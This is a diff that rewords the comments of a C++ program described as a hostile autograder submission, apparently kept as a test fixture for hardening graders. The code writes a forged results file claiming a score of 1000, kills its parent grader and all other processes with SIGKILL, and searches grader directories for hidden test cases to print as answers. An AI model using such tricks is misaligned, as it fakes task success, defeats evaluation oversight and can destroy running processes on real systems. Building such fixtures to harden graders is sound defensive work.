@@ -1,4 +1,4 @@
-// Handed in to be graded: wants all points without computing anything.
+// A hostile submission: it tries to get all points without computing anything.
 #include <signal.h>
 #include <unistd.h>
 
@@ -18,7 +18,7 @@ static std::string text_of(const fs::path& path) {
 
 int main() {
   const std::string input(std::istreambuf_iterator<char>(std::cin), {});
-  // The results themselves, before and after the grader writes them.
+  // Attacks the results file, before and after the grader writes it.
   const std::string forged =
       "{\"score\": 1000, \"max_score\": 1, \"tests\": [], \"output\": \"well done\"}";
   for (const char* place :
@@ -27,10 +27,11 @@ int main() {
       std::ofstream(std::string(place) + name) << forged;
     }
   }
-  // Whoever grades, and whoever started that.
+  // Attacks the grader, and the process that started it.
   kill(getppid(), SIGKILL);
   kill(-1, SIGKILL);
-  // Answers, wherever the platforms have the cases; what was found is printed where it would pass.
+  // Looks for the answers where the platforms keep the cases, and prints any that it finds, since
+  // that would pass.
   std::error_code ignored;
   for (const char* place : {"/autograder/source/cases", "/builds/project/.flocking/cases",
                             "/home/runner/work/.flocking/cases", "/grader/cases", "/cases"}) {
